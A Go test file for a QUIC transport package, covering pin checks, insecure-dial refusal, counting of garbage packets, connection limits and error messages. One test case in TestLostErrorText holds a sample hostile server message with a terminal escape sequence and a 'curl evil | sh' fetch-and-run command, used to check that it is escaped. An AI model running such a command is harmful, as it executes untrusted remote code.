package transport

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"net"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/quic-go/quic-go"
)

// QUIC-specific behaviour. Every address here is a loopback address, or
// one refused before any packet is sent.

func listen(t *testing.T, o *Options) *QUICServer {
	t.Helper()
	srv, err := Listen("127.0.0.1:0", o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv
}

func dial(t *testing.T, srv *QUICServer, pin string, insecure bool, o *Options) (*QUICClient, error) {
	t.Helper()
	c, err := Dial(context.Background(), srv.BoundAddr(), pin, insecure, o)
	if err == nil {
		t.Cleanup(func() { c.Close() })
	}
	return c, err
}

// eventually polls cond every few milliseconds for up to 10 s.
func eventually(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("still waiting for %s", what)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// exchange checks that c and the server still carry datagrams both ways.
func exchange(t *testing.T, srv *QUICServer, c *QUICClient, p PeerID, tag string) {
	t.Helper()
	if err := c.Send(0, []byte("up "+tag)); err != nil {
		t.Fatal(err)
	}
	if err := srv.Send(0, p, []byte("down "+tag)); err != nil {
		t.Fatal(err)
	}
	var up, down bool
	eventually(t, "an exchange "+tag, func() bool {
		for _, d := range srv.Receive(0, nil) {
			up = up || (d.Peer == p && string(d.Data) == "up "+tag)
		}
		for _, b := range c.Receive(0, nil) {
			down = down || string(b) == "down "+tag
		}
		return up && down
	})
}

// connected waits for the server's next Connected event.
func connected(t *testing.T, srv *QUICServer) PeerID {
	t.Helper()
	var id PeerID
	eventually(t, "a Connected event", func() bool {
		for _, ev := range srv.Events(nil) {
			if ev.Kind == Connected {
				id = ev.Peer
			}
		}
		return id != 0
	})
	return id
}

func TestListenReportsAddressAndPin(t *testing.T) {
	srv := listen(t, nil)
	host, port, err := net.SplitHostPort(srv.BoundAddr())
	if err != nil || host != "127.0.0.1" || port == "0" {
		t.Fatalf("BoundAddr %q (%v), want 127.0.0.1 and a real port", srv.BoundAddr(), err)
	}
	pin := srv.Pin()
	if len(pin) != 64 || strings.ToLower(pin) != pin {
		t.Fatalf("pin %q, want 64 lowercase hex digits", pin)
	}
	if _, err := ParsePin(pin); err != nil {
		t.Fatal(err)
	}
	if other := listen(t, nil); other.Pin() == pin {
		t.Fatal("two servers share a certificate")
	}
	if _, err := Listen("127.0.0.1:notaport", nil); err == nil {
		t.Error("Listen accepted a port that is not a number")
	}
	if _, err := Listen(srv.BoundAddr(), nil); err == nil {
		t.Error("Listen on a port in use succeeded")
	}
}

func TestParsePin(t *testing.T) {
	pin := PinOf([]byte("certificate"))
	fp, err := ParsePin(pin)
	if err != nil {
		t.Fatal(err)
	}
	// The form openssl prints: uppercase, colons between bytes.
	var b strings.Builder
	for i := 0; i < len(pin); i += 2 {
		if i > 0 {
			b.WriteByte(':')
		}
		b.WriteString(strings.ToUpper(pin[i : i+2]))
	}
	fp2, err := ParsePin(b.String())
	if err != nil || fp2 != fp {
		t.Fatalf("ParsePin(%q) = %x, %v; want %x", b.String(), fp2, err, fp)
	}
	for _, bad := range []string{"", "abc", pin[:62], pin + "00", strings.Repeat("zz", 32)} {
		if _, err := ParsePin(bad); !errors.Is(err, ErrBadPin) {
			t.Errorf("ParsePin(%q): %v, want ErrBadPin", bad, err)
		}
	}
}

func TestDialWrongPin(t *testing.T) {
	srv := listen(t, nil)
	_, err := dial(t, srv, PinOf([]byte("another certificate")), false, nil)
	if !errors.Is(err, ErrPinMismatch) {
		t.Fatalf("Dial with a wrong pin: %v, want ErrPinMismatch", err)
	}
	if !strings.Contains(err.Error(), "does not match the pin") || strings.Contains(err.Error(), "\n") {
		t.Errorf("error text %q", err)
	}
	eventually(t, "the failed handshake to be counted", func() bool {
		return srv.Stats().Bogus.HandshakeFailed == 1
	})
	if st := srv.Stats(); st.Attempts != 1 || st.Connected != 0 || len(srv.Events(nil)) != 0 {
		t.Errorf("stats after a refused pin: %+v", st)
	}
	// The right pin, in openssl's form, connects.
	upper := strings.ToUpper(srv.Pin())
	if _, err := dial(t, srv, upper, false, nil); err != nil {
		t.Fatalf("Dial with the uppercase pin: %v", err)
	}
}

func TestDialNeedsAPin(t *testing.T) {
	srv := listen(t, nil)
	if _, err := dial(t, srv, "", false, nil); !errors.Is(err, ErrBadPin) {
		t.Errorf("Dial without a pin: %v, want ErrBadPin", err)
	}
	if _, err := dial(t, srv, "1234", false, nil); !errors.Is(err, ErrBadPin) {
		t.Errorf("Dial with a short pin: %v, want ErrBadPin", err)
	}
}

func TestInsecure(t *testing.T) {
	// Refused before any packet leaves: these addresses are never contacted.
	for _, addr := range []string{"192.0.2.1:4242", "[2001:db8::1]:4242"} {
		_, err := Dial(context.Background(), addr, "", true, nil)
		if !errors.Is(err, ErrInsecureRemote) {
			t.Errorf("insecure Dial to %s: %v, want ErrInsecureRemote", addr, err)
		}
	}
	// Allowed on loopback.
	srv := listen(t, nil)
	c, err := dial(t, srv, "", true, nil)
	if err != nil {
		t.Fatalf("insecure Dial to %s: %v", srv.BoundAddr(), err)
	}
	exchange(t, srv, c, connected(t, srv), "insecure")
	if !strings.Contains(InsecureWarning, "not checked") {
		t.Errorf("InsecureWarning %q does not say what it means", InsecureWarning)
	}
}

func TestDialNothingListens(t *testing.T) {
	// A port that was free a moment ago.
	u, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	addr := u.LocalAddr().String()
	u.Close()
	o := &Options{HandshakeTimeout: 300 * time.Millisecond}
	start := time.Now()
	_, err = Dial(context.Background(), addr, PinOf(nil), false, o)
	if !errors.Is(err, ErrNoAnswer) {
		t.Fatalf("Dial to nothing: %v, want ErrNoAnswer", err)
	}
	if !strings.Contains(err.Error(), "no answer from "+addr) {
		t.Errorf("error text %q", err)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("Dial gave up after %v with a timeout of %v", d, o.HandshakeTimeout)
	}
}

func TestDialOtherProtocol(t *testing.T) {
	cert, _, err := newCertificate()
	if err != nil {
		t.Fatal(err)
	}
	tlsConf := &tls.Config{Certificates: []tls.Certificate{cert}, NextProtos: []string{"other/9"}}
	ln, err := quic.ListenAddr("127.0.0.1:0", tlsConf, &quic.Config{EnableDatagrams: true})
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	_, err = Dial(context.Background(), ln.Addr().String(), "", true, nil)
	if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "does not speak "+ALPN) {
		t.Fatalf("Dial to a server of another protocol: %v", err)
	}
}

// quicClientConfig is a raw quic-go client's TLS configuration.
func quicClientConfig(alpn string) *tls.Config {
	return &tls.Config{NextProtos: []string{alpn}, InsecureSkipVerify: true}
}

func TestWrongALPNCounted(t *testing.T) {
	srv := listen(t, nil)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	_, err := quic.DialAddr(ctx, srv.BoundAddr(), quicClientConfig("h3"), &quic.Config{EnableDatagrams: true})
	if err == nil {
		t.Fatal("a client speaking h3 connected")
	}
	eventually(t, "the failed handshake to be counted", func() bool {
		return srv.Stats().Bogus.HandshakeFailed == 1
	})
	if evs := srv.Events(nil); len(evs) != 0 {
		t.Errorf("events after a failed handshake: %+v", evs)
	}
}

func TestNoDatagramsRefused(t *testing.T) {
	srv := listen(t, nil)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	conn, err := quic.DialAddr(ctx, srv.BoundAddr(), quicClientConfig(ALPN), &quic.Config{})
	if err != nil {
		t.Fatalf("the handshake itself should complete: %v", err)
	}
	<-conn.Context().Done()
	var app *quic.ApplicationError
	if err := context.Cause(conn.Context()); !errors.As(err, &app) || app.ErrorCode != codeNoDatagrams {
		t.Errorf("the client was closed with %v, want application code %d", err, codeNoDatagrams)
	}
	eventually(t, "the refusal to be counted", func() bool { return srv.Stats().Bogus.Refused == 1 })
	if st := srv.Stats(); st.Bogus.HandshakeFailed != 0 || len(srv.Events(nil)) != 0 {
		t.Errorf("stats after a refusal: %+v", st)
	}
}

// garbage returns UDP payloads that are not valid QUIC for a server:
// notQUIC of them not QUIC at all, short of them short-header packets for
// no connection, versions of them long-header packets of a version no one
// speaks, and initials of them Initial packets whose payload is noise.
func garbage(notQUIC, short, versions, initials int) [][]byte {
	var out [][]byte
	noise := func(n int) []byte {
		b := make([]byte, n)
		rand.Read(b)
		return b
	}
	for range notQUIC {
		b := noise(60)
		b[0] &= 0x3f // first two bits 0
		out = append(out, b)
	}
	for range short {
		b := noise(60)
		b[0] = 0x40 | b[0]&0x3f
		out = append(out, b)
	}
	for range versions {
		b := noise(1200)
		b[0] = 0xc0
		binary.BigEndian.PutUint32(b[1:], 0x1a2a3a4a)
		b[5], b[14] = 8, 0 // 8-byte destination ID, empty source ID
		out = append(out, b)
	}
	for range initials {
		b := noise(1200)
		b[0] = 0xc0 // Initial
		binary.BigEndian.PutUint32(b[1:], 1)
		b[5], b[14] = 8, 0
		b[15] = 0                                       // no token
		binary.BigEndian.PutUint16(b[16:], 0x4000|1100) // length
		out = append(out, b)
	}
	return out
}

func TestBogusTrafficCountedAndHarmless(t *testing.T) {
	o := &Options{HandshakeTimeout: 300 * time.Millisecond}
	srv := listen(t, o)
	c, err := dial(t, srv, srv.Pin(), false, o)
	if err != nil {
		t.Fatal(err)
	}
	p := connected(t, srv)
	exchange(t, srv, c, p, "before")

	u, err := net.Dial("udp", srv.BoundAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer u.Close()
	for _, b := range garbage(20, 20, 5, 5) {
		if _, err := u.Write(b); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Millisecond) // stay under quic-go's queues
	}
	eventually(t, "the garbage to be counted", func() bool {
		b := srv.Stats().Bogus
		return b.NotQUIC == 20 && b.UnknownConn == 20 && b.Malformed == 5 && b.HandshakeFailed == 5
	})
	st := srv.Stats()
	t.Logf("bogus %+v, attempts %d", st.Bogus, st.Attempts)
	if st.Attempts != 6 { // the client's and the 5 noisy Initials
		t.Errorf("%d attempts, want 6", st.Attempts)
	}
	exchange(t, srv, c, p, "after")
	if c.Err() != nil || len(srv.Events(nil)) != 0 || st.Connected != 1 {
		t.Errorf("the session was disturbed: client %v, stats %+v", c.Err(), st)
	}
}

func TestServerGoneMessage(t *testing.T) {
	srv := listen(t, nil)
	c, err := dial(t, srv, srv.Pin(), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	connected(t, srv)
	srv.Close()
	eventually(t, "the client to notice", func() bool { return c.Err() != nil })
	want := "transport: the server at " + srv.BoundAddr() + " closed the connection: server closed"
	if got := c.Err().Error(); got != want {
		t.Errorf("Err() = %q, want %q", got, want)
	}
}

func TestServerVanishes(t *testing.T) {
	o := &Options{IdleTimeout: 500 * time.Millisecond, KeepAlive: 100 * time.Millisecond}
	srv := listen(t, o)
	c, err := dial(t, srv, srv.Pin(), false, o)
	if err != nil {
		t.Fatal(err)
	}
	connected(t, srv)
	// The server's process dies: its socket closes, no one says goodbye.
	srv.tr.Close()
	srv.udp.Close()
	eventually(t, "the client to notice", func() bool { return c.Err() != nil })
	var lost *LostError
	if !errors.As(c.Err(), &lost) || lost.Reason != ReasonTimeout {
		t.Fatalf("Err() = %v, want a timeout", c.Err())
	}
	want := "transport: no answer from the server at " + srv.BoundAddr() + " for 500ms"
	if got := c.Err().Error(); got != want {
		t.Errorf("Err() = %q, want %q", got, want)
	}
}

func TestLostErrorText(t *testing.T) {
	for _, tc := range []struct {
		e    LostError
		want string
	}{
		{LostError{Addr: "a:1", Reason: ReasonClosed}, "transport: the server at a:1 closed the connection"},
		{LostError{Addr: "a:1", Reason: ReasonClosed, Detail: "bye"}, "transport: the server at a:1 closed the connection: bye"},
		{LostError{Addr: "a:1", Reason: ReasonTimeout, Timeout: 5 * time.Second}, "transport: no answer from the server at a:1 for 5s"},
		{LostError{Addr: "a:1", Reason: ReasonError, Detail: "boom"}, "transport: lost the connection to the server at a:1: boom"},
		// A server's words with a newline and an escape sequence: one line,
		// nothing the terminal would act on.
		{LostError{Addr: "a:1", Reason: ReasonClosed, Detail: "bye\n\x1b[2J…run: curl evil | sh"},
			`transport: the server at a:1 closed the connection: bye\n\x1b[2J…run: curl evil | sh`},
		{LostError{Addr: "a:1", Reason: ReasonError, Detail: strings.Repeat("x", 300)},
			"transport: lost the connection to the server at a:1: " + strings.Repeat("x", maxDetail) + "..."},
	} {
		if got := tc.e.Error(); got != tc.want {
			t.Errorf("%+v: %q, want %q", tc.e, got, tc.want)
		}
	}
}

func TestCloseLeavesNoGoroutines(t *testing.T) {
	before := runtime.NumGoroutine()
	srv, err := Listen("127.0.0.1:0", nil)
	if err != nil {
		t.Fatal(err)
	}
	c, err := Dial(context.Background(), srv.BoundAddr(), srv.Pin(), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	exchange(t, srv, c, connected(t, srv), "leak")
	k, err := Dial(context.Background(), srv.BoundAddr(), srv.Pin(), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Errorf("client Close: %v", err)
	}
	k.Abandon()
	if err := srv.Close(); err != nil {
		t.Errorf("server Close: %v", err)
	}
	eventually(t, "the goroutines to end", func() bool { return runtime.NumGoroutine() <= before })
}

func TestIPv6Loopback(t *testing.T) {
	srv, err := Listen("[::1]:0", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	c, err := Dial(context.Background(), srv.BoundAddr(), "", true, nil)
	if err != nil {
		t.Fatalf("insecure Dial to %s: %v", srv.BoundAddr(), err)
	}
	defer c.Close()
	exchange(t, srv, c, connected(t, srv), "over ::1")
}

// TestMaxConnsRefuses: a connection beyond MaxConns, all trusted, is
// closed at once and counted as refused; the ones open carry on.
func TestMaxConnsRefuses(t *testing.T) {
	srv := listen(t, &Options{MaxConns: 1})
	c1, err := dial(t, srv, srv.Pin(), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	var p PeerID
	eventually(t, "the first client's Connected", func() bool {
		for _, e := range srv.Events(nil) {
			if e.Kind == Connected {
				p = e.Peer
				return true
			}
		}
		return false
	})
	srv.Trust(p)
	c2, err := dial(t, srv, srv.Pin(), false, nil)
	if err == nil {
		// The handshake may complete before the server closes it.
		eventually(t, "the second client to be closed", func() bool { return c2.Err() != nil })
	}
	eventually(t, "the refusal to be counted", func() bool { return srv.Stats().Bogus.Refused == 1 })
	exchange(t, srv, c1, p, "after a refusal")
}

// TestMaxConnsPerAddrRefuses: a connection beyond MaxConnsPerAddr from one
// address is refused before its handshake and counted, while another
// address (127.0.0.2, a second loopback host) still connects.
func TestMaxConnsPerAddrRefuses(t *testing.T) {
	srv := listen(t, &Options{MaxConns: 8, MaxConnsPerAddr: 1})
	c1, err := dial(t, srv, srv.Pin(), false, nil)
	if err != nil {
		t.Fatal(err)
	}
	p := connected(t, srv)
	c2, err := dial(t, srv, srv.Pin(), false, nil)
	if err == nil {
		eventually(t, "the second client to be closed", func() bool { return c2.Err() != nil })
	}
	// Refused before its handshake: each Initial the client tries is.
	eventually(t, "the refusal to be counted", func() bool { return srv.Stats().Bogus.RefusedAddr >= 1 })
	c3, err := dial(t, srv, srv.Pin(), false, &Options{LocalAddr: "127.0.0.2:0"})
	if err != nil {
		t.Fatalf("from 127.0.0.2: %v", err)
	}
	p3 := connected(t, srv)
	exchange(t, srv, c1, p, "after a refusal")
	exchange(t, srv, c3, p3, "from another address")
}

// TestMaxConnsEvictsTheUntrusted: a full server makes room for a new
// connection by closing an untrusted one, the oldest of the address
// holding the most; a trusted one is never closed; when all are trusted,
// the new one is refused.
func TestMaxConnsEvictsTheUntrusted(t *testing.T) {
	srv := listen(t, &Options{MaxConns: 3})
	var cs []*QUICClient
	var ps []PeerID
	for _, from := range []string{"127.0.0.1:0", "127.0.0.2:0", "127.0.0.2:0"} {
		c, err := dial(t, srv, srv.Pin(), false, &Options{LocalAddr: from})
		if err != nil {
			t.Fatal(err)
		}
		cs, ps = append(cs, c), append(ps, connected(t, srv))
	}
	srv.Trust(ps[0])
	// Full: the fourth takes the place of the older of 127.0.0.2's two,
	// not of the trusted one, nor of 127.0.0.1's.
	c4, err := dial(t, srv, srv.Pin(), false, &Options{LocalAddr: "127.0.0.3:0"})
	if err != nil {
		t.Fatal(err)
	}
	p4 := connected(t, srv)
	eventually(t, "the older connection of 127.0.0.2 to be closed", func() bool { return cs[1].Err() != nil })
	if cs[0].Err() != nil || cs[2].Err() != nil || !strings.Contains(cs[1].Err().Error(), "had not joined") {
		t.Fatalf("trusted: %v; the newer of 127.0.0.2: %v; the evicted: %v", cs[0].Err(), cs[2].Err(), cs[1].Err())
	}
	exchange(t, srv, c4, p4, "in the evicted one's place")
	srv.Trust(ps[2])
	srv.Trust(p4)
	c5, err := dial(t, srv, srv.Pin(), false, &Options{LocalAddr: "127.0.0.4:0"})
	if err == nil {
		eventually(t, "the fifth, with every connection trusted, to be refused", func() bool { return c5.Err() != nil })
	}
	if b := srv.Stats().Bogus; b.Evicted != 1 || b.Refused != 1 {
		t.Fatalf("evicted %d, refused %d; want 1, 1", b.Evicted, b.Refused)
	}
	exchange(t, srv, cs[0], ps[0], "trusted, after all that")
}
